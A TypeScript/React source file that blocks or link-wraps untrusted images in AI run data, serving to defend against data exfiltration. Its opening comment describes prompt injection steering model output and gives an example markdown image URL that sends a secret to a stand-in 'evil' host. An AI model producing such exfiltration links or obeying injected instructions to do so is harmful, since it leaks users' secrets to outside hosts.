// Images in run data are untrusted: model output can be steered by a prompt injection, and an
// <img> loads by itself, so `![](https://evil/?q=SECRET)` or a chat image part pointing at such a
// URL would send whatever the model was tricked into writing to that host. Same-origin images
// (our attachment URLs) and data: images of plain raster types show; a remote image is a link
// the user may click (in a new tab: the Content-Security-Policy refuses it in the page anyway).
// Shared by the markdown renderer and the conversation view.

export const SAFE_DATA_IMAGE = /^data:image\/(png|jpeg|gif|webp);base64,[a-z0-9+/=\s]*$/i;

export function resolveUrl(url: string): URL | null {
  try {
    return new URL(url, window.location.href);
  } catch {
    return null;
  }
}

/** How an image source may be shown: loaded in place, offered as a link to a remote host, or not at all. */
export function imagePolicy(src: string | undefined): { kind: "inline" } | { kind: "remote"; host: string } | { kind: "blocked" } {
  if (!src) return { kind: "blocked" };
  if (SAFE_DATA_IMAGE.test(src)) return { kind: "inline" };
  const url = resolveUrl(src);
  if (!url) return { kind: "blocked" };
  if (url.origin === window.location.origin && (url.protocol === "http:" || url.protocol === "https:")) {
    return { kind: "inline" };
  }
  if (url.protocol === "http:" || url.protocol === "https:") return { kind: "remote", host: url.host };
  return { kind: "blocked" };
}

/** An image from run data: shown only when `imagePolicy` allows it, else a placeholder. */
export function UntrustedImage({ src, alt }: { src: string | undefined; alt: string }) {
  const policy = imagePolicy(src);
  if (policy.kind === "inline") return <img src={src} alt={alt} loading="lazy" />;
  const label = alt ? ` (${alt})` : "";
  if (policy.kind === "blocked") return <span className="md-img-blocked">image blocked{label}</span>;
  return (
    <a className="md-img-blocked" href={src} target="_blank" rel="noopener noreferrer nofollow" title={src}>
      remote image blocked: {policy.host} — click to open in a new tab{label}
    </a>
  );
}
